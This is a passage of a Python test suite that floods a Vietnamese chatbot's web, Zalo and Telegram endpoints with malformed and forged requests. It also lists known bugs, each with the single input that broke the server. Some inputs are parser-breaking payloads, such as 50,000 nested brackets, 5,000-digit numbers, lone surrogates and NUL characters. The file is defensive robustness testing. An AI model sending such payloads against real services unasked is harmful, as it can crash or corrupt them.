    def wrong_type(self) -> Shot:
        """Updates with fields of unexpected types: accepted (200) or refused (400), never a crash."""
        rng, update = self.rng, self.message(self.user(), hostile_text(self.rng))
        message = update["message"]
        changes: list[Callable[[], object]] = [
            lambda: message["from"].update(id="abc"),
            lambda: update.update(update_id=rng.choice([-1, 0, True, 1.5, "5", None])),
            lambda: update.pop("update_id"),
            lambda: message.update(chat="abc"),
            lambda: message.pop("chat"),
            lambda: message.update(date=rng.choice(["abc", None, -1, 1.5])),
            lambda: update.update(message=rng.choice([[], "xin chao", 5, None])),
            lambda: message.update(entities=[{"type": "bold", "offset": 9999, "length": -5}]),
            lambda: message.update(reply_to_message={"message_id": 1, "date": 1, "chat": {"id": 1, "type": "x"}}),
        ]
        if "telegram_non_string" not in KNOWN_BUGS:
            changes.append(lambda: message.update(text=rng.choice(ODD_VALUES)))
        if "telegram_date_overflow" not in KNOWN_BUGS:
            changes.append(lambda: message.update(date=10**20))
        rng.choice(changes)()
        return self.post("wrong type", update, 200, 400)

    def forged_update(self) -> Shot:
        """An update from a forged-only person without the right secret: 403, and nothing happens."""
        secret = self.rng.choice([None, "", "wrong", TG_SECRET + "x", TG_SECRET[:-1], TG_SECRET.upper(), "x" * 4000])
        update = self.message(self.rng.choice(self.forged), hostile_text(self.rng))
        return self.post("forged", update, 403, secret=secret)

    def content_type(self) -> Shot:
        """A valid update under another content type."""
        ctype = self.rng.choice(OTHER_CONTENT_TYPES)
        return self.post("content type", self.message(self.user(), hostile_text(self.rng)), 415, ctype=ctype)

    def broken(self) -> Shot:
        """Bodies that are not an update."""
        bodies = [b'{"update_id": 1', b"[]", b'"x"', b"null", b"42", b"{}", b'{"update_id": "1"}', b"\xff\xfe"]
        bodies += [b'{"update_id": ' + b"9" * 5000 + b"}", b'{"update_id": 5, "message": {"text": "x"}}', b""]
        if "deep_json" not in KNOWN_BUGS:
            bodies.append(b"[" * 50_000)
        return self.post("broken JSON", self.rng.choice(bodies), 400)

    def big(self) -> Shot:
        return self.say(self.user(), big_text(self.rng))

    def oversized(self) -> Shot:
        return self.post("oversized", self.message(self.user(), "x" * (MAX_BODY_KB * 1024 + 10)), 413)


CHANNELS: dict[str, type[Flood]] = {"web": WebFlood, "zalo": ZaloFlood, "telegram": TelegramFlood}

# --- watching the server ---------------------------------------------------------------------------


class ErrorLog(logging.Handler):
    """Every record at ERROR or above, and every record that carries a traceback."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.records: list[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        if record.levelno >= logging.ERROR or record.exc_info:
            self.records.append(record)

    def report(self, limit: int = 3) -> str:
        """The first few records, with their tracebacks."""
        lines = [f"{len(self.records)} records at ERROR or with a traceback; the first {limit}:"]
        for record in self.records[:limit]:
            lines.append(f"{record.name} {record.levelname}: {record.getMessage()}")
            if record.exc_info:
                lines.append("".join(traceback.format_exception(*record.exc_info)))
        return "\n".join(lines)


@contextmanager
def collecting_errors() -> Iterator[ErrorLog]:
    """An ErrorLog on the root logger; our own loggers let DEBUG records through, so no traceback is missed."""
    errors, ours = ErrorLog(), logging.getLogger("khuyencong")
    level = ours.level
    logging.getLogger().addHandler(errors)
    ours.setLevel(logging.DEBUG)
    try:
        yield errors
    finally:
        gc.collect()  # a task that died unobserved is logged by asyncio when it is collected
        ours.setLevel(level)
        logging.getLogger().removeHandler(errors)


async def fire(env: Env, shot: Shot) -> tuple[int, bytes]:
    """Send one request; its status and body."""
    async with env.http.post(env.url + shot.path, data=shot.body, headers=shot.headers) as resp:
        return resp.status, await resp.read()


def web_problem(status: int, body: bytes, excused: Collection[str]) -> str | None:
    """The web API's promise: 200 with a list of replies, or a 4xx whose JSON 'error' is in Vietnamese."""
    if status == 413 and "web_413_not_json" in excused:
        return None
    try:
        data = json.loads(body)
    except ValueError:
        return f"web {status} is not JSON: {body[:200]!r}"
    if status == 200:
        replies = data.get("replies") if isinstance(data, dict) else None
        fine = isinstance(replies, list) and all(
            isinstance(r, dict) and isinstance(r.get("text"), str) and isinstance(r.get("buttons"), list)
            for r in replies
        )
        return None if fine else f"web 200 without a list of replies: {body[:200]!r}"
    error = data.get("error") if isinstance(data, dict) else None
    if not isinstance(error, str) or not VIETNAMESE_LETTERS & set(error.lower()):
        return f"web {status} without an 'error' in Vietnamese: {body[:200]!r}"
    return None


def problem_of(shot: Shot, status: int, body: bytes, excused: Collection[str] = KNOWN_BUGS) -> str | None:
    """What is wrong with one answer, if anything (known bugs aside)."""
    if status not in shot.expect:
        return f"{shot.kind}: {status}, expected {sorted(shot.expect)}; sent {shot.body[:150]!r}; got {body[:300]!r}"
    return web_problem(status, body, excused) if shot.path == WEB else None


async def flood(env: Env, actions: list[Action], excused: Collection[str] = KNOWN_BUGS) -> list[str]:
    """Send every action, IN_FLIGHT at a time; the problems found (known bugs aside)."""
    problems: list[str] = []
    queue = iter(actions)  # shared: each worker takes the next action

    async def worker() -> None:
        for action in queue:
            for shot in action:
                status, body = await fire(env, shot)
                if (problem := problem_of(shot, status, body, excused)) is not None:
                    problems.append(problem)

    await asyncio.gather(*(worker() for _ in range(IN_FLIGHT)))
    return problems


def reader(env: Env) -> Any:
    """A connection of our own to the server's database (SQLite's WAL or PostgreSQL: reading never blocks the engine).

    sqlite3's connection, or the PostgreSQL adapter with its interface (execute, fetch*, close).
    """
    other = env.app.repo.reopen()
    assert other is not None
    return other.db.conn


async def drained(db: Any, timeout: float = 120.0) -> None:
    """Wait until the worker has run every accepted webhook event."""
    deadline = time.monotonic() + timeout
    while db.execute("SELECT count(*) FROM inbox").fetchone()[0]:
        assert time.monotonic() < deadline, "the inbox did not drain"
        await asyncio.sleep(0.1)


Rows = tuple[list[tuple[Any, ...]], list[tuple[Any, ...]]]  # leads, lead_audit


def lead_rows(db: Any) -> Rows:
    """The leads and their audit trail, exactly as stored."""
    leads = db.execute("SELECT * FROM leads ORDER BY ref").fetchall()
    audit = db.execute("SELECT * FROM lead_audit ORDER BY id").fetchall()
    return leads, audit


# --- before the flood: real registrations ----------------------------------------------------------

REAL_USERS = {"web": "real_person_on_the_web_0001", "zalo": "6142494823000000777", "telegram": "777000777"}
REAL_PHONES = {"web": "0912 000 001", "zalo": "0912 000 002", "telegram": "0912 000 003"}


async def register_real_people(env: Env, db: Any) -> None:
    """One whole interview and registration per channel, by people the flood never speaks for."""
    for channel, make in CHANNELS.items():
        maker = make(0, first_id=1_000)  # ids the flood never uses
        for text in real_script(REAL_PHONES[channel]):
            shot = maker.say(REAL_USERS[channel], text)
            status, body = await fire(env, shot)
            assert status == 200, (channel, text, body[:300])
    await drained(db)
    for channel, user in REAL_USERS.items():
        assert len(env.app.repo.leads_of(ConversationKey(channel, user))) == 1, channel


# --- the flood tests -------------------------------------------------------------------------------


async def flood_one_channel(tmp_path: Path, channel: str, store: Store) -> None:
    """Store real leads, flood one channel, then check everything the module docstring promises."""
    maker = CHANNELS[channel](SEED + len(channel))
    actions = maker.build(MESSAGES if store.kind == "sqlite" else PG_MESSAGES)
    with collecting_errors() as errors:
        async with running(tmp_path, khuyencong_db=store.target, **SETTINGS) as env:
            with closing(reader(env)) as db:
                await register_real_people(env, db)
                before = lead_rows(db)
                started = time.monotonic()
                problems = await flood(env, actions)
                await drained(db)
                print(f"\n{channel}: {sum(map(len, actions))} requests in {time.monotonic() - started:.1f} s")
                assert not problems, f"{len(problems)} wrong answers, the first ones:\n" + "\n".join(problems[:8])
                check_leads(env, maker, before, lead_rows(db))
                stored_soundly(env, db)
                if channel != "web":
                    check_webhook_effects(env, maker, db)
    assert not errors.records, errors.report()


def check_webhook_effects(env: Env, maker: Flood, db: Any) -> None:
    """Refused events reached no one, and a replayed event was answered once."""
    if maker.channel == "zalo":
        received = Counter(m["recipient"]["user_id"] for m in env.zalo.messages)
    else:
        received = Counter(str(p["chat_id"]) for m, p in env.telegram.calls if m == "sendMessage")
    talked = {row[0] for row in db.execute("SELECT user FROM conversations WHERE channel = ?", [maker.channel])}
    assert not set(maker.forged) & talked, "a refused event reached the engine"
    assert not set(maker.forged) & set(received), "a refused event was answered"
    once = received[maker.reference]
    assert once > 0, "the reference person got no answer"
    assert {u: received[u] for u in maker.replayers} == dict.fromkeys(maker.replayers, once), "a replay counted twice"


def check_leads(env: Env, maker: Flood, before: Rows, after: Rows) -> None:
    """Earlier leads untouched; the flood's registrations stored as typed; every lead reads back."""
    refs = {row[0] for row in before[0]}
    assert [row for row in after[0] if row[0] in refs] == before[0], "a stored lead changed"
    assert [row for row in after[1] if row[1] in refs] == before[1], "a stored lead's audit trail changed"
    for user, name, phone in maker.signups:
        stored = env.app.repo.leads_of(ConversationKey(maker.channel, user))
        assert [(lead.name, lead.phone) for lead in stored] == [(name, phone)], (user, stored)
    people = {(row[1], row[2]) for row in after[0]}
    leads = [lead for c, u in people for lead in env.app.repo.leads_of(ConversationKey(c, u))]
    assert len(leads) == len(after[0]), "a lead made during the flood does not read back"
    for lead in leads:  # the bot refuses answers a spreadsheet would take for a formula
        assert not any(FORMULA.match(v or "") for v in (lead.name, lead.facility_name, lead.note)), lead


@run
async def test_web_survives_a_hostile_flood(tmp_path: Path, store: Store) -> None:
    """POST /api/chat, about 10,000 times."""
    await flood_one_channel(tmp_path, "web", store)


@run
async def test_zalo_survives_a_hostile_flood(tmp_path: Path, store: Store) -> None:
    """POST /webhooks/zalo, about 10,000 times."""
    await flood_one_channel(tmp_path, "zalo", store)


@run
async def test_telegram_survives_a_hostile_flood(tmp_path: Path, store: Store) -> None:
    """POST /webhooks/telegram, about 10,000 times."""
    await flood_one_channel(tmp_path, "telegram", store)


# --- known bugs, one input each --------------------------------------------------------------------


def poisoned_batch() -> list[Action]:
    """Twenty ordinary Telegram updates sent together with one carrying a lone surrogate."""
    maker = TelegramFlood(SEED)
    actions: list[Action] = [(maker.say(user, "xin chao"),) for user in maker.users[:20]]
    return [*actions, (maker.say(maker.users[20], "a\ud800b"),)]


def zalo_wrong(field: str, value: Any) -> list[Action]:
    """A correctly signed Zalo event with one top-level field replaced."""
    maker = ZaloFlood(SEED)
    event = maker.event(maker.users[0], "xin chao")
    event[field] = value
    return [(maker.post("wrong type", event, 200, 403),)]


def zalo_raw(body: bytes) -> list[Action]:
    """An unsigned body for the Zalo webhook, to be refused with 400."""
    return [(ZaloFlood(SEED).post("raw", None, 400, signature=None, raw=body),)]


def telegram_wrong(**fields: Any) -> list[Action]:
    """A Telegram update whose message has some fields replaced."""
    maker = TelegramFlood(SEED)
    update = maker.message(maker.users[0], "xin chao")
    update["message"].update(fields)
    return [(maker.post("wrong type", update, 200, 400),)]


def web_json(raw: str, *expect: int) -> list[Action]:
    """A web request with a hand-written JSON body."""
    return [(WebFlood(SEED).post("raw", raw.encode(), *expect),)]


def web_revenue(button: str) -> list[Action]:
    """An enterprise's interview up to the revenue question (parser: money), then a button."""
    maker = WebFlood(SEED)
    steps = [maker.say(maker.users[0], text) for text in ("kiem tra", "cong ty", "lam nuoc mam", "12")]
    return [(*steps, maker.post("button", {"user": maker.users[0], "button": button}, 200))]


WEB_SENDER = '"user": "hostile_web_00001"'
KNOWN_BUG_CASES: list[tuple[str, str, Callable[[], list[Action]]]] = [
    ("lone_surrogate", "web", lambda: web_json("{" + WEB_SENDER + ', "text": "a\\ud800b"}', 200)),
    ("lone_surrogate", "zalo", lambda: [(ZaloFlood(SEED).say("6100000000000000001", "a\ud800b"),)]),
    ("lone_surrogate", "telegram", lambda: [(TelegramFlood(SEED).say("700000001", "a\ud800b"),)]),
    ("lone_surrogate", "telegram-batch", poisoned_batch),
    ("huge_json_int", "web", lambda: web_json("{" + WEB_SENDER + ', "text": ' + "9" * 5000 + "}", 400)),
    ("huge_json_int", "zalo", lambda: zalo_raw(b'{"a": ' + b"9" * 5000 + b"}")),
    ("deep_json", "zalo", lambda: zalo_raw(b"[" * 50_000)),
    ("deep_json", "telegram", lambda: [(TelegramFlood(SEED).post("raw", b"[" * 50_000, 400),)]),
    ("zalo_non_object", "message", lambda: zalo_wrong("message", "xin chao")),
    ("zalo_non_object", "sender", lambda: zalo_wrong("sender", "6100000000000000001")),
    ("zalo_huge_timestamp", "zalo", lambda: zalo_wrong("timestamp", "1" + "0" * 400)),
    ("telegram_date_overflow", "telegram", lambda: telegram_wrong(date=10**20)),
    ("telegram_non_string", "text", lambda: telegram_wrong(text=5)),
    ("telegram_non_string", "data", lambda: [(TelegramFlood(SEED).post("tap", TelegramFlood(SEED).tap("7", 7), 200),)]),
    ("unicode_digit_payload", "place", lambda: web_json("{" + WEB_SENDER + ', "button": "place:²"}', 200)),
    (
        "unicode_digit_payload",
        "long",
        lambda: web_json("{" + WEB_SENDER + ', "button": "place:' + "9" * 5000 + '"}', 200),
    ),
    ("unicode_digit_payload", "money", lambda: web_revenue("ans:²")),
    ("web_413_not_json", "web", lambda: [(WebFlood(SEED).oversized(),)]),
    ("nul_character", "web", lambda: web_json("{" + WEB_SENDER + ', "text": "xin\\u0000 chao\\u0000"}', 200)),
    ("nul_character", "zalo", lambda: [(ZaloFlood(SEED).say("6100000000000000001", "\x00kiem tra\x00"),)]),
    ("nul_character", "telegram", lambda: [(TelegramFlood(SEED).say("700000001", "\x00"),)]),
    ("nul_character", "signup", lambda: web_signup("Lan\x00 Trần", "Cơ sở\x00 nước mắm", "ghi\x00chú")),
    ("nul_character", "zalo-msg-id", lambda: zalo_ids(msg_id="hostile-\x00-1")),
    ("nul_character", "zalo-sender", lambda: zalo_ids(sender="6100000000000000001\x00")),
]
# What is stored by these cases, besides the text handling: run on PostgreSQL too (a database with rules of its own).
STORAGE_BUGS = frozenset({"lone_surrogate", "nul_character"})


def zalo_ids(msg_id: str | None = None, sender: str | None = None) -> list[Action]:
    """A correctly signed Zalo text whose message id or sender id is odd."""
    maker = ZaloFlood(SEED)
    event = maker.event(maker.users[0], "xin chao")
    if msg_id is not None:
        event["message"]["msg_id"] = msg_id
    if sender is not None:
        event["sender"]["id"] = sender
    return [(maker.post("odd id", event, 200),)]


def web_signup(name: str, facility: str, note: str) -> list[Action]:
    """A whole web interview and registration with the given answers."""
    maker = WebFlood(SEED)
    return [tuple(maker.say(maker.users[0], text) for text in signup_script(name, "0912 300 009", facility, note))]


def stored_soundly(env: Env, db: Any) -> None:
    """Every conversation and lead reads back, and the JSON the staff pages query is JSON each database reads."""
    people = db.execute("SELECT channel, user FROM conversations UNION SELECT channel, user FROM leads").fetchall()
    for channel, user in people:
        key = ConversationKey(channel, user)
        assert env.app.repo.load(key) is not None or env.app.repo.leads_of(key), key
    for table, column in (("conversations", "slots"), ("leads", "profile")):  # as the funnel and the filters do
        db.execute(f"SELECT count(*) FROM {table} WHERE json_extract({column}, '$.sector') IS NOT NULL").fetchone()


@pytest.mark.parametrize(
    ("bug", "make", "store"),
    [
        pytest.param(
            bug,
            make,
            kind,
            id=f"{bug}-{label}-{kind}",
            marks=[
                pytest.mark.xfail(bug in KNOWN_BUGS, reason=KNOWN_BUGS.get(bug, ""), raises=AssertionError, strict=True)
            ],
        )
        for bug, label, make in KNOWN_BUG_CASES
        for kind in (["sqlite", "postgres"] if bug in STORAGE_BUGS else ["sqlite"])
    ],
    indirect=["store"],
)
@run
async def test_known_bug(tmp_path: Path, bug: str, make: Callable[[], list[Action]], store: Store) -> None:
    """One input that broke the server: a polite answer and nothing logged, once fixed (until then a strict xfail)."""
    with collecting_errors() as errors:
        async with running(tmp_path, khuyencong_db=store.target, **SETTINGS) as env:
            problems = await flood(env, make(), excused=())
            with closing(reader(env)) as db:
                await drained(db, timeout=10)
                stored_soundly(env, db)
    assert not problems, "\n".join(problems[:3])
    assert not errors.records, errors.report()
